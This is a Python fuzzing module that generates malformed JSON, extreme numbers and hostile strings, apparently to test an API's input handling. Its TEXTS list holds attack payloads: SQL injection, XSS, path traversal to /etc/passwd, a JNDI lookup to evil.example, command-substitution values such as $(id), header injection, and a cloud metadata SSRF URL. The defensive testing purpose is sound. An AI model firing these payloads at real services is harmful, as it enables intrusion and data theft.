# SPDX-License-Identifier: Apache-2.0
"""Values that break programs: texts, numbers and JSON documents, drawn from a seeded generator."""

import json
from collections.abc import Callable
from random import Random
from typing import Any

CANARY = "canary-that-no-log-names"
"""Is in every hostile body, path and token: no log line may have it."""
TEXTS = (
    "", " ", "null", "None", "undefined", "true", "0", "-1", "NaN", "Infinity", "1e309", "\x00", "a\x00b", "\r\n",
    "\t", "a\r\nSet-Cookie: a=b", "a\nLocation: https://evil.example", "../../../../etc/passwd", "%2e%2e%2f%2e%2e%2f",
    "..\\..\\windows\\win.ini", "%252e%252e%252f", "%00", "%0d%0aX-Evil: 1", "%", "%zz", "%c0%ae", "%ff%fe", "/", "//",
    "\\", ".", "..", "*", "?", "[a-z]*", "{userId}", "{shop}", "<userId>", "${jndi:ldap://evil.example/a}", "{{7*7}}",
    "%s%n", "' OR '1'='1", '"; DROP TABLE users; --', "<script>alert(1)</script>", "javascript:alert(1)", "$(id)",
    "`id`", "| id", "\xe9", "e\u0301", "\u202euser", "\ufeffu1", "\u200b", "\ud800", "\udfff\ud800",
    "\U0001f469\u200d\U0001f467", "\u0130", "\xdf", "\uff55\uff11", "\u2167", "\u0663", "u1\x00", "\U0010ffff",
    "a" * 257, "a" * 5000, "\xe9" * 300, "__proto__", "constructor", "toString", "__class__", "arn:aws:personalize",
    "drops/../secret", "CON", "NUL", "file:///etc/passwd", "http://169.254.169.254/latest/meta-data/", "-0", "1_000",
    "0x10",
)  # fmt: skip
NUMBERS = (
    0,
    -1,
    -0.0,
    1.5,
    10**10,
    10**12,
    10**40,
    -(10**40),
    2**31,
    2**63,
    2**64,
    1e308,
    5e-324,
    float("inf"),
    float("nan"),
)


def text(random: Random) -> str:
    """A hostile text, or a random one."""
    if random.random() < 0.85:
        return random.choice(TEXTS)
    return "".join(chr(random.randrange(0x11000)) for _ in range(random.randrange(1, 40)))


def value(random: Random, depth: int = 0) -> Any:  # noqa: ANN401 - any JSON
    """Any JSON value, hostile."""
    made: list[Callable[[], object]] = [
        lambda: text(random),
        lambda: random.choice(NUMBERS),
        lambda: random.choice((True, False, None)),
        lambda: [value(random, depth + 1) for _ in range(random.randrange(4))] if depth < 3 else [],
        lambda: {text(random): value(random, depth + 1) for _ in range(random.randrange(4))} if depth < 3 else {},
    ]
    return random.choice(made)()


def mutated(random: Random, document: Any) -> Any:  # noqa: ANN401 - any JSON
    """The document with one node replaced, left out, doubled or renamed."""
    if isinstance(document, dict) and document and random.random() < 0.85:
        key = random.choice(list(document))
        act = random.randrange(5)
        if act == 0:
            return {name: item for name, item in document.items() if name != key}
        if act == 1:
            return {**document, text(random): value(random)}
        if act == 2:
            return {text(random) if name == key else name: item for name, item in document.items()}
        return {**document, key: mutated(random, document[key])}
    if isinstance(document, list) and document and random.random() < 0.8:
        index = random.randrange(len(document))
        changed = [*document[:index], mutated(random, document[index]), *document[index + 1 :]]
        return changed * random.choice((1, 1, 1, 2, 60)) if len(changed) < 10 else changed
    return value(random)


def body(random: Random, document: object) -> str:
    """A body that began as a good document."""
    made: list[Callable[[], str]] = [
        lambda: spelled(mutated(random, document)),
        lambda: spelled(mutated(random, mutated(random, document))),
        lambda: cut(random, spelled(document)),
        lambda: flipped(random, spelled(document)),
        lambda: doubled(random, spelled(document)),
        lambda: nested(random),
        lambda: spelled(value(random)),
        lambda: spelled(document) + random.choice(("{}", ",", "\x00", "]", "\n\n{", "//c", "\ufeff")),
        lambda: random.choice(("\ufeff", " " * 4000, "\x00", ")]}',\n")) + spelled(document),
        lambda: spelled(document)[:-1] + ',"' + "k" * random.choice((10, 70_000, 270_000)) + '":1}',
        lambda: (
            '{"n":'
            + random.choice(("1" * 5000, "-", "01", "1.", ".5", "1e99999", "+1", "0x1", "NaN", "-Infinity"))
            + "}"
        ),
        lambda: text(random),
        lambda: "",
    ]
    return random.choice(made)()


def spelled(document: object) -> str:
    """JSON as some clients write it, NaN and lone surrogates included."""
    return json.dumps(document, ensure_ascii=False)


def cut(random: Random, whole: str) -> str:
    """The beginning of a text."""
    return whole[: random.randrange(len(whole) or 1)]


def flipped(random: Random, whole: str) -> str:
    """A text with some characters changed."""
    letters = list(whole)
    for _ in range(random.randrange(1, 4)):
        letters[random.randrange(len(letters))] = random.choice('{}[]",:\\0 \x00é')
    return "".join(letters)


def doubled(random: Random, whole: str) -> str:
    """An object that has keys of its own a second time, with other values."""
    if not whole.startswith("{"):
        return whole + whole
    return "{" + whole[1:-1] + "," + f'"userId":{spelled(text(random))},' + whole[1:]


def nested(random: Random) -> str:
    """Depth."""
    depth = random.choice((10, 200, 1_000, 5_000, 60_000))
    left, right = random.choice((("[", "]"), ('{"a":', "}"), ('{"events":[', "]}"), ('{"properties":', "}")))
    return left * depth + "1" + right * random.choice((depth, 0))
